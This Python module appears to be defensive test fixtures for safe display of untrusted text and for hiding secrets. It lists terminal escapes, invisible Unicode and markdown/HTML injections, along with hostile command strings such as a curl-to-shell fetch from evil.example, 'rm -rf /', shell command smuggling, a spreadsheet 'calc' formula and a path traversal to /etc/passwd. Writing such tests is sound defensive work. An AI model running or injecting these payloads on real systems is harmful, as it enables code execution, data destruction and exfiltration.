"""Texts that somebody may send who means no good, and what must become of them."""

import base64
import html
import json
import re
from collections.abc import Callable, Iterator, Mapping
from functools import partial
from typing import Any, Final
from unicodedata import combining
from urllib.parse import quote

#: A part of each of them by which it is found again, where all of it may not be left.
MARK: Final = "zq7"

#: By kind: each has an own way to do harm.
TEXTS: Final = (
    f"\x1b]0;{MARK}\x07",  # the terminal's title
    f"\x1b[2J\x1b[H{MARK}",  # clears the screen
    f"\x1b]52;c;{MARK}\x07",  # the clipboard
    f"\x1b]8;;https://{MARK}.example\x07x\x1b]8;;\x07",  # a link
    f"\x9b31m{MARK}\x9d0;x\x9c\x90q\x9c\x9fx\x1b_x\x1b\\\x1bPq",  # in one byte each
    f"{MARK}\r\n\nBASE_URL=https://evil.example\n",
    f"{MARK}\x0bcurl -s http://evil.example/x|sh\x0b\x0c\x85",
    f"{MARK}\u2028rm -rf /\u2029",
    f"\u202e{MARK}\u2066\u200f\u061c",  # turns the direction of writing
    # What cannot be seen, and what Python calls printable all the same.
    f"\x00\x08\x7f{MARK}\ufeff\u200b\u00ad\u2060\ue000\ufffe\U000e0041",
    f"{MARK}\u034f\u115f\u3164\uffa0\u2800\ufe0f\ufe0f\ufe01\U000e0100\u180b",
    f"\u0334{MARK}" + "e\u0301\u0489" * 9 + "e" + "\u0316\u0333\u035b" * 9,  # grows
    f"\ud800{MARK}\udfff",  # halves of a character
    f"[link=https://evil.example]{MARK}[/link] [/red] [bold :skull:",
    f"![{MARK}](https://evil.example/pixel.png)",
    f"[{MARK}](https://evil.example) <https://evil.example> https://evil.example @all",
    f"    # {MARK}[^1] [x][{MARK}]\n\n[{MARK}]: https://evil.example\n[^1]: #12",
    f"<img src=https://evil.example/p.png>{MARK}<script>x</script><!--",
    f"```\n![{MARK}](https://evil.example/p.png)\n```\n",
    f"{MARK} | x | ``` ` ``",
    f"x”) {MARK} “y",
    f"{MARK}; touch /tmp/pwned; $(id) `id` ${{IFS}} && id | id > x",
    f"'\"; id; '{MARK}",
    f"light.x:\n  y\nshell_command:\n  {MARK}: id\n- *a &b !!python/x",
    f"{{host}} {{paste}} {{0}} {{{MARK}}} {{0.__class__}} {{x!r:>9}} %s %(x)s",
    f"${{LONG_LIVED_ACCESS_TOKEN}} {MARK}",
    f"-{MARK} --help",
    f"=cmd|' /C calc'!{MARK} @SUM(1)",  # a cell of a spreadsheet
    f"../../{MARK}/../etc/passwd",
    f"https://smith-family-{MARK}.example.net/ 2a02:810d:1234::77 93.184.216.34",
    MARK * 100_000,
)

#: What our own styles write.
_STYLE: Final = re.compile(r"\x1b\[[0-9;]*m")

#: Printable to Python, and seen by nobody.
_UNSEEN: Final = re.compile(
    "[\u034f\u115f\u1160\u17b4\u17b5\u180b-\u180f\u2800\u3164\ufe00-\ufe0d\uffa0"
    "\U000e0000-\U000e0fff]|[\ufe0e\ufe0f]{2}"
)


def assert_harmless(shown: str) -> None:
    """All of a text can be seen, and a terminal does nothing but show it."""
    bare = _STYLE.sub("", shown)
    hidden = {one for one in bare if not one.isprintable()} - {"\n"}
    assert not hidden, (hidden, bare[:300])
    assert not _UNSEEN.search(bare), bare[:300]
    marks = ("x" if combining(one) else " " for one in bare)
    assert max(map(len, "".join(marks).split()), default=0) < 9, bare[:300]
    assert "\x1b]8" not in shown


# -- secrets ---------------------------------------------------------------------------


def _in_base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


#: How somebody who was sent a secret may write it.
WRITTEN: Final[Mapping[str, Callable[[str], str]]] = {
    "as it is": str,
    "in capitals": str.upper,
    "in an address": lambda text: quote(text, safe=""),
    "in a path": quote,
    "each byte by its number": lambda text: "".join(
        f"%{one:02X}" for one in text.encode()
    ),
    "in a page": html.escape,
    "in JSON": lambda text: json.dumps(text)[1:-1],
    "in JSON in JSON": lambda text: json.dumps(json.dumps(text))[1:-1],
    "in base64": _in_base64,
    "in base64, behind a byte": lambda text: _in_base64(f":{text}"),
    "in base64, behind two": lambda text: _in_base64(f"u:{text}"),
    "as basic authentication": lambda text: _in_base64(f"owner:{text}"),
    "in base64 of addresses": lambda text: (
        base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")
    ),
    "in base64 of base64": lambda text: _in_base64(_in_base64(text)),
    "in JSON, letter by letter": lambda text: "".join(
        f"\\u{int.from_bytes(one, 'big'):04X}" for one in _halves(text)
    ),
    "in JavaScript, letter by letter": lambda text: "".join(
        f"\\u{{{ord(one):x}}}" for one in text
    ),
    "in a shell, letter by letter": lambda text: "".join(
        f"\\{one:03o}" for one in text.encode()
    ),
    "in a page, letter by letter": lambda text: "".join(
        f"&#{ord(one)};" for one in text
    ),
    "in a page, by hexadecimal": lambda text: "".join(
        f"&#x{ord(one):x};" for one in text
    ),
    "in an address, twice": lambda text: quote(quote(text, safe=""), safe=""),
    "in a mail": lambda text: "".join(f"={one:02X}" for one in text.encode()),
    "with soft hyphens": "\xad".join,
    "with spaces of no width": "\u200b".join,
    "in hexadecimal": lambda text: text.encode().hex(),
    "in hexadecimal capitals": lambda text: text.encode().hex().upper(),
}


def _halves(text: str) -> Iterator[bytes]:
    data = text.encode("utf-16-be")
    return (data[place : place + 2] for place in range(0, len(data), 2))


#: Secrets of all lengths and letters.
SECRETS: Final = (
    *("q7", "z9k", "pa5s", "hunter22", "p+s /w?", 'a"b\\c<d>', "k\xe4se12"),
    *("Aa1!" * 8, "\xe9" * 40),
    "eyJhbGciOiJIUzI1NiJ9.eyJpc3MiOiIwMTIzNDU2Nzg5YWJjZGVmIn0.c2lnbmF0dXJl",
)


def assert_hidden(secret: str, written: str, shown: str) -> None:
    """Neither a secret nor what was made of it can be read."""
    low, start = shown.lower(), max(0, len(written) // 2 - 8)
    for one in (secret, written, json.dumps(secret)[1:-1], json.dumps(written)[1:-1]):
        assert one.lower() not in low
    if len(written) > 16:
        assert written[start : start + 16].lower() not in low


# -- places ----------------------------------------------------------------------------


Put = Callable[[Any], Any]


def places(value: Any, path: str = "") -> Iterator[tuple[str, Put]]:
    """Give every place in JSON, with what puts something else there.

    A field that is added to the value is covered by that.
    """
    yield path.strip(".") or "all of it", lambda other: other
    if isinstance(value, dict):
        for key, inner in value.items():
            yield f"{path}.{key} by name".strip("."), partial(_renamed, value, key)
            for name, put in places(inner, f"{path}.{key}"):
                yield name, partial(_changed, value, key, put)
    elif isinstance(value, list):
        for number, inner in enumerate(value):
            for name, put in places(inner, f"{path}.{number}"):
                yield name, partial(_exchanged, value, number, put)


def _renamed(value: dict[str, Any], key: str, other: Any) -> dict[str, Any]:
    return {(str(other) if one == key else one): inner for one, inner in value.items()}


def _changed(value: dict[str, Any], key: str, put: Put, other: Any) -> dict[str, Any]:
    return {**value, key: put(other)}


def _exchanged(value: list[Any], number: int, put: Put, other: Any) -> list[Any]:
    return [*value[:number], put(other), *value[number + 1 :]]


#: What stands where something else should.
ODD: Final[tuple[Any, ...]] = (
    *(None, True, 0, -1, 1e308, 10**30, "", [], {}, [None], [[]], [{}], {"a": {}}),
    *([TEXTS[0]], {TEXTS[1]: TEXTS[0]}, [{"text": [TEXTS[0]]}], "\ud800"),
)
